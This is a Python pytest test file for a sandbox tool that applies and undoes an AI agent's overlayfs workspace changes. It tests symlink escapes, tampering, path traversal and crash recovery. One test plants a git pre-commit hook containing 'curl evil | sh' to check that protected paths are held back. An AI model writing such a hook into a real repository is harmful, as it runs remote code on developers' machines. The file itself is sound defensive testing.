"""apply, undo and discard on hand-made layers, judged by the host's tree: what lands, what is
kept, what is refused, and what an attacker's layer or a racing host cannot make them do."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from sandboxctl.errors import SandboxError
from sandboxctl.workspace import seal
from sandboxctl.workspace.apply import apply
from sandboxctl.workspace.layer import discard
from sandboxctl.workspace.undo import undo
from tests.unit.workspace_helpers import later, make_layer, opaque, snapshot, whiteout, write


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    write(root / "src/a.py", "a\n")
    write(root / "src/pkg/b.py", "b\n")
    write(root / "README", "readme\n")
    write(root / "run.sh", "#!/bin/sh\n", 0o644)
    write(root / "build/out.o", b"\x7fELF\0\0")
    write(root / "conf", "k=v\n")
    (root / "link").symlink_to("README")
    return root


def agent_run(tmp_path: Path, ws: Path):
    """A layer as overlayfs leaves it after an agent ran: every kind of change."""
    layer = make_layer(tmp_path / "state", ws)
    up = layer.upper
    whiteout(up / "src")
    write(up / "README", "readme\nmore\n")
    write(up / "run.sh", "#!/bin/sh\n", 0o755)
    write(up / "build", bytes(range(256)) * 64)          # dir -> binary file
    write(up / "conf/inner", "i\n")                      # file -> dir
    write(up / "docs/guide.md", "# guide\n")
    (up / "docs").chmod(0o555)                           # a read-only new directory
    (up / "link").symlink_to("docs/guide.md")
    seal.seal(layer)
    return layer


def expected_after(ws: Path) -> dict:
    """What the run saw: the tree apply must produce."""
    return {
        "README": ("file", 0o644, _sha(b"readme\nmore\n")), "run.sh": ("file", 0o755, _sha(b"#!/bin/sh\n")),
        "build": ("file", 0o644, _sha(bytes(range(256)) * 64)), "conf": ("dir", 0o755),
        "conf/inner": ("file", 0o644, _sha(b"i\n")), "docs": ("dir", 0o555),
        "docs/guide.md": ("file", 0o644, _sha(b"# guide\n")), "link": ("symlink", "docs/guide.md"),
    }


def _sha(data: bytes) -> str:
    import hashlib

    return hashlib.sha256(data).hexdigest()


def test_apply_writes_what_the_run_saw_and_undo_puts_back_exactly(tmp_path, ws):
    os.umask(0o022)
    start = snapshot(ws)
    inode = os.stat(ws / "README").st_ino
    layer = agent_run(tmp_path, ws)
    assert snapshot(ws) == start  # held: the host is untouched until apply
    outcome = apply(layer)
    assert not (outcome.conflicts or outcome.failed or outcome.protected) and outcome.state == "applied"
    assert snapshot(ws) == expected_after(ws)
    assert not [p for p in os.listdir(ws) if p.startswith(".sandboxctl-")]  # no temporary left
    assert seal.review(layer).changes == []
    assert undo(layer).state == "undone"
    assert snapshot(ws) == start
    assert os.stat(ws / "README").st_ino == inode  # the very file, linked back from where apply kept it
    assert not layer.backup.exists()


def test_apply_and_undo_log_records_of_their_own(tmp_path, ws):
    layer = agent_run(tmp_path, ws)
    apply(layer)
    undo(layer)
    records = [json.loads(line) for line in (tmp_path / "state/actions.jsonl").read_text().splitlines()]
    assert [(r["event"], r["action"], r["run"]) for r in records] == [
        ("workspace", "apply", layer.run_id), ("workspace", "undo", layer.run_id)]
    assert records[0]["applied"] == 9 and "src" in records[0]["paths"]
    assert records[1]["seq"] == records[0]["seq"] + 1


def test_conflicts_are_listed_not_applied_unless_forced(tmp_path, ws):
    layer = agent_run(tmp_path, ws)
    later()
    write(ws / "README", "the host's own edit\n")
    outcome = apply(layer)
    assert [c.path for c in outcome.conflicts] == ["README"]
    assert (ws / "README").read_text() == "the host's own edit\n"
    assert outcome.state == "partly applied"
    assert (ws / "docs/guide.md").exists()  # everything else landed
    again = apply(layer, force=True)
    assert [c.path for c in again.applied] == ["README"] and again.state == "applied"
    assert (ws / "README").read_text() == "readme\nmore\n"
    undo(layer)
    assert (ws / "README").read_text() == "the host's own edit\n"  # undo puts back what apply replaced


def test_a_second_apply_is_not_in_conflict_with_the_first(tmp_path, ws):
    """Paths apply itself wrote (and their directories) are not 'changed on the host'."""
    layer = agent_run(tmp_path, ws)
    first = apply(layer, ["docs/guide.md"])
    assert [c.path for c in first.applied] == ["docs", "docs/guide.md"]  # the new directory comes along
    rest = apply(layer)
    assert not rest.conflicts and rest.state == "applied"


def test_apply_after_undo_is_not_in_conflict_with_the_undo(tmp_path, ws):
    """undo's own writes are not 'changed on the host': applying again works, and so does undo."""
    start = snapshot(ws)
    layer = agent_run(tmp_path, ws)
    apply(layer)
    undo(layer)
    again = apply(layer)
    assert not again.conflicts and again.state == "applied"
    assert snapshot(ws) == expected_after(ws)
    later()
    write(ws / "README", "the host's, after the second apply\n")
    outcome = undo(layer)  # the second apply's changes only, and README is the host's now
    assert outcome.refused == [("README", "changed on the host since apply")]
    assert undo(layer, force=True).state == "partly applied"
    assert {k: v for k, v in snapshot(ws).items() if k != "README"} == {k: v for k, v in start.items()
                                                                       if k != "README"}


def test_protected_paths_need_to_be_named(tmp_path, ws):
    layer = make_layer(tmp_path / "state", ws)
    write(layer.upper / ".git/hooks/pre-commit", "curl evil | sh\n", 0o755)
    write(layer.upper / "src/ok.py", "ok\n")
    seal.seal(layer)
    outcome = apply(layer)
    assert [c.path for c in outcome.protected] == [".git", ".git/hooks", ".git/hooks/pre-commit"]
    assert not (ws / ".git").exists() and (ws / "src/ok.py").exists()
    named = apply(layer, include_protected=[".git"])
    assert (ws / ".git/hooks/pre-commit").read_text() == "curl evil | sh\n" and not named.protected


def test_a_path_selection_must_name_a_change(tmp_path, ws):
    layer = agent_run(tmp_path, ws)
    with pytest.raises(SandboxError) as info:
        apply(layer, ["src/a.py"])
    assert "src, which the run deleted" in info.value.hint
    with pytest.raises(SandboxError):
        apply(layer, ["nothing/here"])


def test_a_tampered_or_missing_layer_is_refused_and_nothing_is_written(tmp_path, ws):
    start = snapshot(ws)
    layer = agent_run(tmp_path, ws)
    write(layer.upper / "docs/guide.md", "swapped after the run\n")
    with pytest.raises(SandboxError) as info:
        apply(layer)
    assert "not what the run left" in info.value.message and "docs/guide.md" in info.value.message
    assert snapshot(ws) == start
    (layer.upper / "docs").chmod(0o755)
    import shutil

    shutil.rmtree(layer.upper)
    with pytest.raises(SandboxError) as info:
        apply(layer)
    assert "missing" in info.value.message
    assert snapshot(ws) == start


def test_symlinks_of_the_layer_are_written_as_symlinks_never_through(tmp_path, ws):
    outside = tmp_path / "outside"
    write(outside / "target", "untouched\n")
    layer = make_layer(tmp_path / "state", ws)
    (layer.upper / "escape").symlink_to(outside / "target")
    (layer.upper / "dir-escape").symlink_to(outside)
    seal.seal(layer)
    apply(layer)
    assert os.readlink(ws / "escape") == str(outside / "target")
    assert (outside / "target").read_text() == "untouched\n" and sorted(os.listdir(outside)) == ["target"]


def test_a_host_symlink_where_the_run_has_a_directory_is_replaced_never_followed(tmp_path, ws):
    outside = tmp_path / "outside"
    outside.mkdir()
    layer = make_layer(tmp_path / "state", ws)
    write(layer.upper / "build/out.o", "new object\n")   # the run wrote into build/
    seal.seal(layer)
    later()
    import shutil

    shutil.rmtree(ws / "build")
    (ws / "build").symlink_to(outside)                    # the host swaps build/ for a way out
    outcome = apply(layer)
    assert {c.path for c in outcome.conflicts} == {"build", "build/out.o"}
    assert os.listdir(outside) == []
    forced = apply(layer, force=True)
    assert not forced.failed
    assert os.listdir(outside) == [] and not (ws / "build").is_symlink()
    assert (ws / "build/out.o").read_text() == "new object\n"


def test_a_hardlink_in_the_layer_is_copied_not_linked(tmp_path, ws):
    outside = write(tmp_path / "outside.txt", "outside\n")
    layer = make_layer(tmp_path / "state", ws)
    os.link(outside, layer.upper / "linked.txt")
    seal.seal(layer)
    apply(layer)
    assert (ws / "linked.txt").read_text() == "outside\n"
    assert os.stat(ws / "linked.txt").st_ino != os.stat(outside).st_ino
    (ws / "linked.txt").write_text("changed in the workspace\n")
    assert outside.read_text() == "outside\n"


def test_a_host_change_during_apply_leaves_that_path_alone(tmp_path, ws, monkeypatch):
    layer = agent_run(tmp_path, ws)
    real = seal.review

    def racing(layer):
        reviewed = real(layer)
        write(ws / "README", "written while apply starts\n")
        return reviewed

    monkeypatch.setattr(seal, "review", racing)
    outcome = apply(layer)
    assert [(c.path, why) for c, why in outcome.failed] == [("README", "changed on the host while applying")]
    assert (ws / "README").read_text() == "written while apply starts\n"


def test_names_with_newlines_and_escapes_apply(tmp_path, ws):
    name = "evil\n\x1b[31mred\x07"
    layer = make_layer(tmp_path / "state", ws)
    write(layer.upper / name, "x\n")
    seal.seal(layer)
    assert [c.path for c in apply(layer).applied] == [name]
    assert (ws / name).read_text() == "x\n"


def test_a_killed_apply_is_undone_exactly(tmp_path, ws, monkeypatch):
    """The journal line comes before its change: whatever a crash left done is undone, the rest
    is recognised as never done."""
    start = snapshot(ws)
    layer = agent_run(tmp_path, ws)
    calls = {"n": 0}
    real_rename = os.rename

    def dying_rename(*args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 4:
            raise KeyboardInterrupt  # the process dies here
        return real_rename(*args, **kwargs)

    monkeypatch.setattr(os, "rename", dying_rename)
    with pytest.raises(KeyboardInterrupt):
        apply(layer)
    monkeypatch.setattr(os, "rename", real_rename)
    layer.update(state="partly applied")  # what a later command finds: the journal says it began
    outcome = undo(layer)
    assert outcome.state == "undone", outcome
    assert snapshot(ws) == start  # the staged temporary of the killed change is gone too


def test_undo_refuses_when_the_host_changed_a_path_again(tmp_path, ws):
    layer = agent_run(tmp_path, ws)
    apply(layer)
    applied = snapshot(ws)
    write(ws / "README", "edited after apply\n")
    outcome = undo(layer)
    assert outcome.state == "applied" and not outcome.restored
    assert outcome.refused == [("README", "changed on the host since apply")]
    assert snapshot(ws) == {**applied, "README": snapshot(ws)["README"]}  # nothing was touched
    forced = undo(layer, force=True)
    assert "README" not in forced.restored and (ws / "README").read_text() == "edited after apply\n"
    assert (ws / "src/a.py").exists()  # the rest is back


def test_undo_refuses_when_files_were_put_in_a_directory_apply_made(tmp_path, ws):
    layer = make_layer(tmp_path / "state", ws)
    write(layer.upper / "new/a", "a\n")
    seal.seal(layer)
    apply(layer)
    write(ws / "new/mine", "the host's\n")
    outcome = undo(layer)
    assert outcome.refused == [("new", "the host put new/mine in it since apply")]
    assert (ws / "new/a").exists()


def test_undo_refuses_when_what_apply_kept_was_changed(tmp_path, ws):
    layer = agent_run(tmp_path, ws)
    apply(layer)
    kept = next(p for p in layer.backup.iterdir() if p.is_file() and p.read_bytes() == b"readme\n")
    kept.unlink()
    write(kept, "not what was there\n")
    outcome = undo(layer)
    assert ("README", "what apply kept of it is gone or changed") in outcome.refused


def test_discard_drops_the_layer_and_refuses_an_applied_run_unless_forced(tmp_path, ws):
    start = snapshot(ws)
    layer = agent_run(tmp_path, ws)
    apply(layer, ["run.sh"])
    with pytest.raises(SandboxError):
        discard(layer)
    undo(layer)
    assert discard(layer)["previous"] == "undone"
    assert not layer.upper.exists() and layer.state == "discarded"
    assert snapshot(ws) == start
    with pytest.raises(SandboxError):
        apply(layer)


def test_a_full_disk_while_applying_leaves_every_file_whole(tmp_path, ws):
    """RLIMIT_FSIZE makes a large write fail like a full disk (EFBIG instead of ENOSPC), for any
    user: that file keeps its old content, the others land, and the failure names it."""
    layer = make_layer(tmp_path / "state", ws)
    write(layer.upper / "README", b"R" * 300_000)
    write(layer.upper / "small.txt", "fits\n")
    write(layer.upper / "conf", "k=w\n")
    seal.seal(layer)
    script = (
        "import json, resource, sys\n"
        "from pathlib import Path\n"
        "from sandboxctl.workspace.apply import apply\n"
        "from sandboxctl.workspace.layer import Layer\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))\n"
        "out = apply(Layer(Path(sys.argv[1])))\n"
        "print(json.dumps({'failed': [[c.path, why] for c, why in out.failed], 'state': out.state}))\n")
    result = subprocess.run([sys.executable, "-c", script, str(layer.path)], capture_output=True, text=True,
                            cwd=Path(__file__).resolve().parents[2])
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["state"] == "partly applied" and [p for p, _ in report["failed"]] == ["README"]
    assert (ws / "README").read_text() == "readme\n"  # whole: the old file, not half of the new one
    assert (ws / "small.txt").read_text() == "fits\n" and (ws / "conf").read_text() == "k=w\n"
    assert not [p for p in os.listdir(ws) if p.startswith(".sandboxctl-")]
    assert [c.path for c in apply(layer).applied] == ["README"]  # with room again, the rest lands
    assert (ws / "README").read_bytes() == b"R" * 300_000


def test_opaque_directory_replacing_a_tree(tmp_path, ws):
    layer = make_layer(tmp_path / "state", ws)
    opaque(layer.upper / "src")
    write(layer.upper / "src/a.py", "a\n")
    write(layer.upper / "src/new.py", "n\n")
    seal.seal(layer)
    apply(layer)
    assert sorted(os.listdir(ws / "src")) == ["a.py", "new.py"]


def test_a_crafted_journal_cannot_lead_undo_out_of_the_workspace(tmp_path, ws):
    """Every journal path is walked beneath the workspace one name at a time: `..` is refused."""
    outside = write(tmp_path / "outside.txt", "keep me\n")
    layer = agent_run(tmp_path, ws)
    apply(layer)
    line = {"op": 999, "how": "replace", "path": "../outside.txt", "before": None,
            "after": {"kind": "file", "mode": 0o644, "size": 8, "sha256": "0" * 64}, "backup": None}
    with open(layer.journal_path, "a") as journal_file:
        journal_file.write(json.dumps(line) + "\n")
    outcome = undo(layer, force=True)
    assert "../outside.txt" not in outcome.restored and outcome.state == "undone"
    assert outside.read_text() == "keep me\n"


def test_a_tampered_layer_is_named_inert(tmp_path, ws):
    layer = agent_run(tmp_path, ws)
    write(layer.upper / "evil\x1b[2Jname", "x")
    with pytest.raises(SandboxError) as info:
        apply(layer)
    assert "\x1b" not in info.value.message and "\\x1b[2Jname" in info.value.message
